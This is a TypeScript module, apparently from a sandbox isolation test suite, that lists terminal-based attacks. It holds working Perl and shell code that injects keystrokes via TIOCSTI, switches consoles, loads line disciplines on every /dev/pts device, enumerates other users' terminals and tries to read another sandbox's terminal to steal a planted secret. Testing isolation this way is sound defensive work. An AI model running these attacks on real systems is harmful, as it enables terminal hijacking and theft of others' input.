import { byScript, type Attack, type Field } from './attack.ts';
import { perl } from './perl.ts';

const TYPE = String.raw`
for my $path ('/dev/tty', glob('/dev/pts/[0-9]*')) {
  open my $terminal, '+<', $path or next;
  my $letter = 'x';
  loot("typed into $path") if ioctl $terminal, 0x5412, $letter;
  my $select = "\x0b\0";
  loot("console of $path") if ioctl $terminal, 0x541c, $select;
  loot("took the console by $path") if ioctl $terminal, 0x541d, 0;
  for my $line (1 .. 30) {
    my $discipline = pack 'l', $line;
    if (ioctl $terminal, 0x5423, $discipline) { loot("line discipline $line of $path"); last }
  }
}`;

/** To use a terminal for more than a terminal. */
export const TERMINALS: readonly Attack[] = [
  {
    name: 'type into its own terminal, or load line disciplines by it',
    attempt: (field) => inTerminal(field, perl(TYPE)),
  },
  byScript(
    'type into a terminal that it opened, or load line disciplines by it',
    () =>
      perl(String.raw`
open my $master, '+<', '/dev/ptmx' or die;
my $unlock = pack 'i', 0;
ioctl $master, 0x40045431, $unlock or die;
my $number = pack 'i', 0;
ioctl $master, 0x80045430, $number or die;
POSIX::setsid();
open my $own, '+<', '/dev/pts/' . unpack 'i', $number or die;
ioctl $own, 0x540e, 0;
${TYPE}`),
    { onHost: 'unsafe' },
  ),
  byScript(
    'find terminals of others',
    () => 'ls /dev/pts | grep -vx ptmx; tty -s </dev/tty && echo tty; ls /dev/tty? /dev/console /dev/vcs*',
    {
      onHost: 'anyone',
    },
  ),
  {
    name: 'read what is typed in the terminal of another sandbox',
    attempt: async (field) => {
      const other = await field.sandbox();
      const terminal = await other.pty.create({ cols: 80, rows: 24, onData: () => {} });
      await other.pty.sendInput(terminal.pid, new TextEncoder().encode(`echo ${field.host.secret}\n`));
      const spy = `ls /dev/pts | grep -vx ptmx; for t in /dev/pts/[0-9]*; do timeout 1 cat $t; done; ls -l /proc/[0-9]*/fd | grep pts`;
      return (await field.run(await field.sandbox(), spy)).out;
    },
  },
];

/** Runs a script in a terminal of the server's making, and gives what it printed between two marks. */
async function inTerminal(field: Field, script: string): Promise<string> {
  const sandbox = await field.sandbox();
  await sandbox.files.write('/home/user/script', `${script} >/tmp/loot\n`);
  const terminal = await sandbox.pty.create({ cols: 80, rows: 24, onData: () => {} });
  await sandbox.pty.sendInput(terminal.pid, new TextEncoder().encode('bash script; exit 3\n'));
  await terminal.wait().catch(() => {});
  return sandbox.files.read('/tmp/loot');
}
